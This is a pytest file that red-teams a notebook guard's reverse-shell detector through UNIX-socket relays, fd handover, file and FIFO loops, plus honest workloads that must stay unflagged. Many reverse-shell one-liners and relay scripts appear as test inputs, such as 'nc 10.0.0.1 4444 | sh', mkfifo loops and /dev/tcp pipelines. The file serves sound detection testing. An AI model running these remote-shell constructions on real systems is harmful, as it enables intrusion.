"""Session 25 (b): the loop of a shell's streams through files and UNIX sockets (observe/pipes.py
read_ends, observe/sockdiag.py) and cell-reverse-shell's read-and-run loops, attacked by a
notebook user who has read the code, then run as an honest researcher would. Real processes,
sockets and files, the real sampler and engine; everything on loopback.

Found and fixed:
- A program driving `bash` through pipes (`subprocess.Popen(['bash'], stdin=PIPE,
  stdout=PIPE)`) while holding a connection, with multiprocessing workers forked after it or a
  Manager, was named remote-reverse-shell: the forks inherit its pipes' ends and connection.
  A fork that exec'd nothing of an ancestor that is no shell is that program, as excluded as
  it is (processes._copy_of); a pipeline segment forked by an ancestor shell still counts.
- A SQLite database open read-write by a connected web app, by the worker feeding bash and by
  the recorder of its answers was a loop (each holder of an O_RDWR file read and wrote it): a
  file open read-write is a store, written, never followed (pipes.read_ends); `nc … 1<>log`
  feeding `tail -f log` still closes a loop.

- A shell writing its output to a file its relay follows (`tail -f in | sh -i > out 2>&1 &
  tail -f out | nc HOST PORT >> in`) was never a candidate: its stdout or stderr may now be a
  regular file (pipes.shell_streams).

Recognised as they were: SEQPACKET, connected datagram and abstract-name UNIX sockets, two
hops of UNIX sockets, a connection handed over by SCM_RIGHTS, a log renamed into tail -F's
place. Left (strict xfail, reasons on each): a loop through a file its follower opens O_RDWR
(the price of the database fix), a shell whose streams are a UNIX socket, a shell between two
connected processes (the connection closes the loop), and, as cells, read-and-run loops over
several lines. (`nc … | sh` as a cell was one: refused since, by the lead's branch.)"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from colab_guard.observe.processes import ProcessSampler
from tests.harness import wait_until
from tests.test_cell_evasions import run_cells
from tests.test_redteam_sampled20 import _group, _loop_ticks
from tests.test_redteam_session23 import RELAY, _relay_connected, _reverse_shell
from tests.test_shell_streams import _wait_for, listener  # noqa: F401 (a fixture)

SHELL_LOOP = ("remote-reverse-shell", "remote-access", "sh -i")


def _script(tmp_path: Path, name: str, code: str) -> Path:
    path = tmp_path / name
    path.write_text(code)
    return path


# ---------------------------------------------------------------- evasions: UNIX sockets

#: A relay between a UNIX socket of a kind and address (argv 1, 2: '@name' for an abstract
#: one) and a TCP connection (argv 3: its port), each way.
RELAY_OF_KIND = """
import socket, sys, threading
kind = getattr(socket, sys.argv[1])
address = "\\0" + sys.argv[2][1:] if sys.argv[2].startswith("@") else sys.argv[2]
server = socket.socket(socket.AF_UNIX, kind)
server.bind(address)
if kind == socket.SOCK_DGRAM:
    data, peer = server.recvfrom(4096)  # the client's hello: its address
    server.connect(peer)
    inside = server
else:
    server.listen(1)
    inside, _ = server.accept()
outside = socket.create_connection(("127.0.0.1", int(sys.argv[3])))
def pump(a, b):
    while data := a.recv(4096):
        b.sendall(data) if b is outside else b.send(data)
threading.Thread(target=pump, args=(inside, outside), daemon=True).start()
pump(outside, inside)
"""

#: `nc -U`'s part for any kind of UNIX socket: stdin to the socket, the socket to stdout.
CLIENT_OF_KIND = """
import os, socket, sys, threading, time
kind = getattr(socket, sys.argv[1])
address = "\\0" + sys.argv[2][1:] if sys.argv[2].startswith("@") else sys.argv[2]
client = socket.socket(socket.AF_UNIX, kind)
if kind == socket.SOCK_DGRAM:
    client.bind(address + ".client")
while True:  # polling for the relay's socket
    try:
        client.connect(address)
        break
    except OSError:
        time.sleep(0.05)
if kind == socket.SOCK_DGRAM:
    client.send(b"hello")
def out():
    while data := client.recv(4096):
        os.write(1, data)
threading.Thread(target=out, daemon=True).start()
while data := os.read(0, 4096):
    client.send(data)
"""


def _unix_loop(kind: str, address: str, listener, tmp_path: Path):  # noqa: F811
    relay = _script(tmp_path, "relay.py", RELAY_OF_KIND)
    client = _script(tmp_path, "client.py", CLIENT_OF_KIND)
    return _reverse_shell(
        f"python3 {relay} {kind} {address} {{port}} & "
        f"cat {{f}} | sh -i 2>&1 | python3 {client} {kind} {address} > {{f}}",
        listener, tmp_path, holder="python")


@pytest.mark.parametrize("kind, name", [
    pytest.param("SOCK_SEQPACKET", "s", id="seqpacket"),
    pytest.param("SOCK_DGRAM", "s", id="connected-datagrams"),
    pytest.param("SOCK_STREAM", "@rt25b-{port}", id="abstract-name"),
])
def test_a_loop_through_another_kind_of_unix_socket_is_recognised(kind, name, listener,  # noqa: F811
                                                                  tmp_path):
    """sock_diag answers for every kind of UNIX socket, by inode, and for an abstract name
    as for a path: a SEQPACKET pair, a pair of datagram sockets connected to each other and
    a stream socket with no file close the loop as `nc -U` does."""
    address = name.format(port=listener.port) if name.startswith("@") else str(tmp_path / name)
    found, relays = _unix_loop(kind, address, listener, tmp_path)
    assert SHELL_LOOP in found, relays


#: Two hops: a UNIX socket (argv 1) to another (argv 2), each way.
UNIX_HOP = """
import os, socket, sys, threading, time
server = socket.socket(socket.AF_UNIX)
server.bind(sys.argv[1])
server.listen(1)
inside, _ = server.accept()
onward = socket.socket(socket.AF_UNIX)
while True:  # polling for the next relay's socket
    try:
        onward.connect(sys.argv[2])
        break
    except OSError:
        time.sleep(0.05)
def pump(a, b):
    while data := a.recv(4096):
        b.sendall(data)
threading.Thread(target=pump, args=(inside, onward), daemon=True).start()
pump(onward, inside)
"""


def test_a_loop_through_two_hops_of_unix_sockets_is_recognised(listener, tmp_path):  # noqa: F811
    """nc -U to a hop, the hop to the relay holding the connection: the search passes any
    number of processes, each socket's two holders joined."""
    relay = _script(tmp_path, "relay.py", RELAY)
    hop = _script(tmp_path, "hop.py", UNIX_HOP)
    found, relays = _reverse_shell(
        f"python3 {relay} {{d}}/s2 {{port}} & python3 {hop} {{d}}/s1 {{d}}/s2 & "
        "while [ ! -S {d}/s1 ]; do sleep 0.05; done; "
        "cat {f} | sh -i 2>&1 | nc -U {d}/s1 > {f}", listener, tmp_path, holder="python")
    assert relays["sh -i"].startswith("python")
    assert SHELL_LOOP in found


#: A client of the relay's UNIX socket (argv 1), once it listens (a workload's first lines)
CONNECT_TO_RELAY = """
import os, socket, sys, threading, time
client = socket.socket(socket.AF_UNIX)
while True:  # polling for the relay's socket
    try:
        client.connect(sys.argv[1])
        break
    except OSError:
        time.sleep(0.05)
"""

#: The relay that hands its connection over (SCM_RIGHTS) to the client of its UNIX socket
#: (argv 1) and closes its own copy: no process but the client holds the connection.
HAND_OVER = """
import socket, sys, time
server = socket.socket(socket.AF_UNIX)
server.bind(sys.argv[1])
server.listen(1)
inside, _ = server.accept()
outside = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
socket.send_fds(inside, [b"fd"], [outside.fileno()])
outside.close()
time.sleep(300)
"""

#: The client given the connection: stdin to it, it to stdout.
HANDED = CONNECT_TO_RELAY + """
_, fds, _, _ = socket.recv_fds(client, 16, 1)
conn = socket.socket(fileno=fds[0])
def out():
    while data := conn.recv(4096):
        os.write(1, data)
threading.Thread(target=out, daemon=True).start()
while data := os.read(0, 4096):
    conn.sendall(data)
"""


def test_a_connection_handed_over_through_a_unix_socket_is_recognised(listener,  # noqa: F811
                                                                      tmp_path):
    """SCM_RIGHTS: the process that connected passes the socket to the shell's neighbour and
    closes it. The neighbour then holds the connection itself (its fd's inode is in the TCP
    table): the relay."""
    relay = _script(tmp_path, "relay.py", HAND_OVER)
    client = _script(tmp_path, "client.py", HANDED)
    found, relays = _reverse_shell(
        f"python3 {relay} {{d}}/s {{port}} & "
        f"cat {{f}} | sh -i 2>&1 | python3 {client} {{d}}/s > {{f}}",
        listener, tmp_path, holder="python")
    assert relays["sh -i"].startswith("python")
    assert SHELL_LOOP in found


#: What `socat UNIX-CONNECT:S EXEC:'sh -i',nofork` leaves: the shell's own streams the UNIX
#: socket (argv 1), connected to a relay holding the connection.
SHELL_ON_SOCKET = CONNECT_TO_RELAY + """
for fd in (0, 1, 2):
    os.dup2(client.fileno(), fd)
os.execvp("sh", ["sh", "-i"])
"""


@pytest.mark.xfail(strict=True, reason=(
    "a shell whose stdin and stdout are themselves a connected UNIX socket (socat "
    "UNIX-CONNECT:S EXEC:'sh -i',nofork, or os.dup2 then exec) is never a candidate: "
    "pipes.may_be_piped/shell_streams take pipes, FIFOs and paths only, and the socket is no "
    "inet one for the socket-on-streams rule. Suggested fix: let shell_streams give 'unix:A:B' "
    "(sock_diag's pair) for a socket on fds 0-2, so relay_in_loop follows it to the relay"))
def test_a_shell_whose_streams_are_a_unix_socket_to_the_relay_is_recognised(listener,  # noqa: F811
                                                                           tmp_path):
    relay = _script(tmp_path, "relay.py", RELAY)
    shell = _script(tmp_path, "shell.py", SHELL_ON_SOCKET)
    found, relays = _reverse_shell(
        f"python3 {relay} {{d}}/s {{port}} & python3 {shell} {{d}}/s; : {{f}}",
        listener, tmp_path, holder="python")
    assert SHELL_LOOP in found, relays


# ---------------------------------------------------------------- evasions: files

#: Appends what the connection (argv 2: its port) brings to a file opened O_RDWR (argv 1),
#: and sends what it reads on stdin.
RDWR_RELAY = """
import os, socket, sys, threading
log = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT | os.O_APPEND)
conn = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
def inbound():
    while data := conn.recv(4096):
        os.write(log, data)
threading.Thread(target=inbound, daemon=True).start()
while data := os.read(0, 4096):
    conn.sendall(data)
"""

#: Follows a file opened O_RDWR (argv 1) as tail -f does, onto stdout.
RDWR_FOLLOW = """
import os, sys, time
log = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT)
while True:
    data = os.read(log, 4096)
    if data:
        os.write(1, data)
    else:
        time.sleep(0.05)  # polling the file's growth
"""


@pytest.mark.xfail(strict=True, reason=(
    "a file open read-write (O_RDWR) counts as written, never as followed (fixed in this "
    "session: a SQLite database shared by a connected web app and the worker feeding bash "
    "was a loop, test_a_jobs_database_shared_by_a_connected_web_app_and_a_shells_worker_is_"
    "left_alone); tail, cat and `<` open a file for reading. Telling a log followed through "
    "O_RDWR from a database would need the reader's offset (fdinfo's pos) to follow the "
    "file's end over ticks"))
def test_a_loop_through_a_file_both_open_read_write_is_recognised(listener, tmp_path):  # noqa: F811
    """Neither O_WRONLY nor O_RDONLY: a file opened O_RDWR by the relay and by the shell's
    feeder is read and written by each."""
    relay = _script(tmp_path, "relay.py", RDWR_RELAY)
    follow = _script(tmp_path, "follow.py", RDWR_FOLLOW)
    found, relays = _reverse_shell(
        f"python3 {follow} {{d}}/log | sh -i 2>&1 | python3 {relay} {{d}}/log {{port}}; : {{f}}",
        listener, tmp_path, holder="python")
    assert relays["sh -i"].startswith("python")
    assert SHELL_LOOP in found


def test_a_log_its_relay_opens_read_write_is_recognised(listener, tmp_path):  # noqa: F811
    """`… | nc HOST PORT 1<>log`: nc's stdout open read-write (a store's mode) is written,
    and `tail -f log` follows it into sh."""
    found, relays = _reverse_shell(
        ": > {d}/log; tail -f {d}/log | sh -i 2>&1 | nc 127.0.0.1 {port} 1<>{d}/log; : {f}",
        listener, tmp_path)
    assert relays["sh -i"].startswith("nc")
    assert SHELL_LOOP in found


def test_a_file_renamed_into_the_place_tail_F_follows_is_recognised(listener, tmp_path):  # noqa: F811
    """`tail -F log | sh -i | nc … >> new`, then `mv new log`: tail -F follows the name, opens
    the file nc appends to, and the loop is closed through the same inode."""
    log, new = tmp_path / "log", tmp_path / "new"
    log.touch()
    new.touch()
    line = (f"tail -F -s 0.1 {log} 2>/dev/null | sh -i 2>&1 "
            f"| nc 127.0.0.1 {listener.port} >> {new}")
    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL) as kernel:
        listener.accept_one()
        _relay_connected(kernel.pid)
        assert _loop_ticks(kernel.pid, ticks=2)[1]["sh -i"] == ""  # two files: no loop yet
        new.rename(log)
        wait_until(lambda: SHELL_LOOP in _loop_ticks(kernel.pid, ticks=2)[0], timeout=20,
                   what="the loop seen once tail -F follows the renamed file")


def test_a_shell_writing_a_file_its_relay_follows_is_recognised(listener, tmp_path):  # noqa: F811
    """`tail -f in | sh -i > out 2>&1 & tail -f out | nc HOST PORT >> in`: two logs, no FIFO,
    no pipe from the shell. Was missed (this session: a shell's stdout or stderr may be a
    regular file, pipes.shell_streams)."""
    found, relays = _reverse_shell(
        "touch {d}/in {d}/out; tail -f {d}/in | sh -i > {d}/out 2>&1 & "
        "tail -f {d}/out | nc 127.0.0.1 {port} >> {d}/in; : {f}", listener, tmp_path)
    assert relays["sh -i"].startswith("nc")
    assert SHELL_LOOP in found, relays


def test_a_relay_forked_by_the_shells_parent_shell_still_counts(listener, tmp_path):  # noqa: F811
    """The near miss of the driver's forks left out: the pipeline's `{ …; }` segment, a
    fork of the script's bash (the shell's parent), opens /dev/tcp and writes what it brings
    into the FIFO cat feeds to sh. A fork of an ancestor shell is a pipeline's segment, no copy
    of a program driving the shell."""
    found, relays = _reverse_shell(
        "cat {f} | sh -i 2>&1 | {{ exec 3<>/dev/tcp/127.0.0.1/{port}; "
        "while read -r l; do echo \"$l\" >&3; done & "
        "while read -r l <&3; do echo \"$l\"; done > {f}; }}", listener, tmp_path,
        holder="bash")
    assert relays["sh -i"] == "bash"
    assert SHELL_LOOP in found


@pytest.mark.xfail(strict=True, reason=(
    "the connection closes the loop itself: what the shell writes leaves through one "
    "process's connection and comes back through another's (or another connection's), so "
    "no pipe, FIFO, file or UNIX socket leads from the shell's output to its input and "
    "relay_in_loop finds none. Suggested fix: a shell with no script whose stdin is written "
    "by a connected process and whose output is read by one (not `curl … | sh`, whose output "
    "goes to the terminal) is served to the network"))
@pytest.mark.parametrize("line", [
    pytest.param("exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&3 | sh -i 2>&1 | cat >&3; : {f}",
                 id="one-connection-two-cats"),
    pytest.param("nc 127.0.0.1 {port} | sh -i 2>&1 | nc 127.0.0.1 {port}; : {f}",
                 id="two-connections"),
])
def test_a_shell_between_two_connected_processes_is_recognised(line, listener,  # noqa: F811
                                                               tmp_path):
    script = _script(tmp_path, "rev.sh", line.format(port=listener.port, f=tmp_path / "f"))
    with _group(["bash", str(script)], stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL) as kernel:
        for _ in range(line.count("{port}")):
            listener.accept_one()
        _relay_connected(kernel.pid, holder="")
        found, relays = _loop_ticks(kernel.pid)
    assert SHELL_LOOP in found, relays


# ---------------------------------------------------------------- honest, kept clean

def _honest_tree(line: str, listener, connections: int, want):  # noqa: F811
    """``line`` run by `bash -c` as the kernel, once ``connections`` of its processes are
    accepted by ``listener`` and a process of its tree satisfies ``want``: _loop_ticks'
    detections and relays."""
    with _group(["bash", "-c", line], stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL) as kernel:
        for _ in range(connections):
            listener.accept_one()
        _wait_for(ProcessSampler(), kernel.pid, want)
        return _loop_ticks(kernel.pid)


#: Streams the lines of a file it follows (stdin) to a connection (argv 1): an uploader.
UPLOADER = """
import socket, sys
conn = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for line in sys.stdin:
    conn.sendall(line.encode())
"""

#: A program driving a shell it started through pipes (argv 3: 'fork' workers, a 'manager'
#: and its client, or 'alone' after it), reporting each answer to a connection (argv 1)
#: and to a log (argv 2).
DRIVER = """
import multiprocessing, socket, subprocess, sys, time
conn = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
log = open(sys.argv[2], "a", buffering=1)
shell = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                         stderr=subprocess.STDOUT, text=True, bufsize=1)
context = multiprocessing.get_context("fork")
def work(shared):
    while True:
        if shared is not None:
            shared["beat"] = time.time()
        time.sleep(0.2)
if sys.argv[3] == "fork":
    workers = [context.Process(target=work, args=(None,)) for _ in range(2)]
elif sys.argv[3] == "manager":
    manager = context.Manager()
    workers = [context.Process(target=work, args=(manager.dict(),))]
else:
    workers = []
for worker in workers:
    worker.start()
while True:
    shell.stdin.write("echo step $RANDOM\\n")
    shell.stdin.flush()
    answer = shell.stdout.readline()
    log.write(answer)
    conn.sendall(answer.encode())
    time.sleep(0.2)
"""


@pytest.mark.parametrize("helpers", ["alone", "fork", "manager"])
def test_a_program_driving_bash_through_pipes_while_its_log_is_uploaded_is_left_alone(
        helpers, listener, tmp_path):  # noqa: F811
    """`subprocess.Popen(['bash'], stdin=PIPE, stdout=PIPE)` in a script that holds a
    connection and logs each answer to a file `tail -f log | uploader` ships: bash reads no
    script, its streams are pipes, and a connected process reads what it writes. The driver,
    its ancestor, feeds it; workers forked from the driver (multiprocessing's fork context,
    a Manager's server and the UNIX sockets its clients hold) inherit its pipes' ends and its
    connection."""
    driver = _script(tmp_path, "driver.py", DRIVER)
    uploader = _script(tmp_path, "upload.py", UPLOADER)
    log = tmp_path / "log"
    log.touch()
    line = (f"{sys.executable} {driver} {listener.port} {log} {helpers} & "
            f"tail -f {log} | {sys.executable} {uploader} {listener.port}; wait")
    found, relays = _honest_tree(line, listener, 2, lambda p: p.cmdline == ["bash"]
                                 and log.stat().st_size > 0)
    assert "bash" in relays and relays["bash"] == "" and found == set(), (relays, found)


@pytest.mark.parametrize("into_log", ["2>&1 | tee -a {log} > /dev/null", ">> {log} 2>&1"])
def test_a_command_generator_piped_into_bash_whose_log_is_uploaded_is_left_alone(
        into_log, listener, tmp_path):  # noqa: F811
    """`python gen.py | bash 2>&1 | tee -a log` (or bash's own `>> log`) beside `tail -f log |
    uploader >> log` (its own lines appended to the log it follows): a connected process
    reads and writes the log bash's output reaches, but nothing brings it back to bash's
    input (the generator's)."""
    gen = _script(tmp_path, "gen.py", "import time\nwhile True:\n"
                  "    print('echo epoch', flush=True)\n    time.sleep(0.2)\n")
    uploader = _script(tmp_path, "upload.py", UPLOADER + "    print('sent', flush=True)\n")
    log = tmp_path / "log"
    log.touch()
    line = (f"{sys.executable} {gen} | bash {into_log.format(log=log)} & "
            f"tail -f {log} | {sys.executable} {uploader} {listener.port} >> {log}; wait")
    found, relays = _honest_tree(line, listener, 1, lambda p: p.cmdline == ["bash"]
                                 and log.stat().st_size > 0)
    assert relays["bash"] == "" and found == set(), (relays, found)


#: A web app's stand-in: holds a connection (argv 2) and the jobs database (argv 1) open,
#: adding a job and reading the results now and then.
WEB_APP = """
import socket, sqlite3, sys, time
conn = socket.create_connection(("127.0.0.1", int(sys.argv[2])))
db = sqlite3.connect(sys.argv[1], isolation_level=None)
db.execute("create table if not exists jobs (id integer primary key, result text)")
while True:
    db.execute("insert into jobs (result) values (null)")
    conn.sendall(str(db.execute("select count(*) from jobs where result is not null")
                     .fetchone()).encode())
    time.sleep(0.3)
"""

#: The worker: turns each new job of the database (argv 1) into a command for bash.
WORKER = """
import sqlite3, sys, time
db = sqlite3.connect(sys.argv[1], isolation_level=None)
done = 0
while True:
    for (job,) in db.execute("select id from jobs where id > ?", (done,)).fetchall():
        print(f"echo {job} finished", flush=True)
        done = job
    time.sleep(0.2)
"""

#: Records bash's answers in the database (argv 1).
RECORDER = """
import sqlite3, sys
db = sqlite3.connect(sys.argv[1], isolation_level=None)
for line in sys.stdin:
    job = int(line.split()[0])
    db.execute("update jobs set result = ? where id = ?", (line.strip(), job))
"""


def test_a_jobs_database_shared_by_a_connected_web_app_and_a_shells_worker_is_left_alone(
        listener, tmp_path):  # noqa: F811
    """A SQLite file open read-write by a connected web app, by the worker feeding bash and by
    the recorder reading bash's answers: each holder both reads and writes the file, so the
    database joins bash's output to its input through the connected app."""
    db = tmp_path / "jobs.db"
    scripts = {name: _script(tmp_path, f"{name}.py", code)
               for name, code in (("app", WEB_APP), ("worker", WORKER), ("recorder", RECORDER))}
    line = (f"{sys.executable} {scripts['app']} {db} {listener.port} & "
            f"while [ ! -s {db} ]; do sleep 0.05; done; "
            f"{sys.executable} {scripts['worker']} {db} | bash 2>&1 "
            f"| {sys.executable} {scripts['recorder']} {db}")
    found, relays = _honest_tree(line, listener, 1, lambda p: p.cmdline == ["bash"]
                                 and _answered(db))  # the queue works
    assert relays["bash"] == "" and found == set(), (relays, found)


def _answered(db: Path) -> bool:
    import sqlite3
    with sqlite3.connect(db) as reader:
        return reader.execute("select count(*) from jobs where result is not null").fetchone()[0] > 0


# ---------------------------------------------------------------- the cell rule (engine only)

def _cell_ids(cell: str) -> set[str]:
    return {d.signature.id for d in run_cells([cell])}


@pytest.mark.parametrize("cell", [
    pytest.param("%%bash\nmkfifo /tmp/f\ncat /tmp/f | while read -r l; do eval $l; done 2>&1 "
                 "| nc 10.0.0.1 4444 > /tmp/f", id="eval-unquoted-read-r"),
    pytest.param('%%bash\nnc 10.0.0.1 4444 | while read l; do "$l"; done', id="quoted-word"),
])
def test_a_read_and_run_loop_fed_by_a_network_client_is_refused(cell):
    assert "cell-reverse-shell" in _cell_ids(cell)


@pytest.mark.xfail(strict=True, reason=(
    "the cell's shell lines are judged one by one: a pipeline continued past a newline "
    "(`\\` at a line's end, a trailing `|`, the loop's `do`/`done` on lines of their own) "
    "puts the client and the loop on different `run:` lines, which neither branch spans. "
    "Suggested fix: join a %%bash cell's continued lines (a trailing `\\` or `|`, an open "
    "while…done) into one `run:` line before the rules see them"))
@pytest.mark.parametrize("cell", [
    pytest.param('%%bash\nnc 10.0.0.1 4444 \\\n  | while read l; do eval "$l"; done',
                 id="line-continuation"),
    pytest.param('%%bash\nnc 10.0.0.1 4444 |\nwhile read l; do eval "$l"; done',
                 id="newline-after-the-pipe"),
    pytest.param('%%bash\nnc 10.0.0.1 4444 | while read l\ndo\n  eval "$l"\ndone',
                 id="loop-over-lines"),
])
def test_a_read_and_run_loop_spread_over_lines_is_refused(cell):
    assert "cell-reverse-shell" in _cell_ids(cell)


@pytest.mark.parametrize("cell", [
    pytest.param("!nc 10.0.0.1 4444 | sh", id="nc-into-sh"),
    pytest.param("%%bash\nmkfifo /tmp/f\nnc 10.0.0.1 4444 < /tmp/f | /bin/sh > /tmp/f 2>&1",
                 id="nc-into-sh-back-through-a-fifo"),
    pytest.param("%%bash\nnc 10.0.0.1 4444 | xargs -I{} sh -c {}", id="xargs-sh-c"),
])
def test_a_network_client_piped_into_a_shell_is_refused(cell):
    """Was a strict xfail: no loop and no /dev/tcp named (fixed by the lead: a raw client's
    output piped straight into a shell with no script, or into xargs … sh -c)."""
    assert "cell-reverse-shell" in _cell_ids(cell)


@pytest.mark.parametrize("cell", [
    pytest.param("%%bash\nwhile read cmd; do $cmd; done < cmds.txt", id="batch-runner"),
    pytest.param('%%bash\nnc -l 9000 < q | while read job; do echo "done $job"; done > q',
                 id="queue-that-echoes"),
    pytest.param("%%bash\nnc -z 127.0.0.1 8888 && echo up; while read cmd; do $cmd; done "
                 "< cmds.txt", id="health-check-beside-a-batch"),
    pytest.param("%%bash\nwhile read host; do nc -z $host 22 && echo $host up; done < hosts",
                 id="health-checks-in-a-loop"),
    pytest.param("%%bash\ncat cmds.txt | while read c; do $c; done | tee run.log",
                 id="batch-piped-to-tee"),
])
def test_honest_loops_and_health_checks_pass(cell):
    assert "cell-reverse-shell" not in _cell_ids(cell)
